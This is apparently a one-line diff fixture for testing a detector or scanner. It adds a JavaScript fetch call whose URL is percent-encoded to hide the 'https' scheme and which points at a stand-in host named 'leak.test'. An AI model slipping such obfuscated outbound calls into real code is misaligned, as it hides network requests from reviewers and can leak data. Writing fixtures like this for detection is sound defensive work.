@@ -1,0 +1,1 @@
+fetch(unescape("%68ttps%3A//js-fold-unescape.leak.test/"))
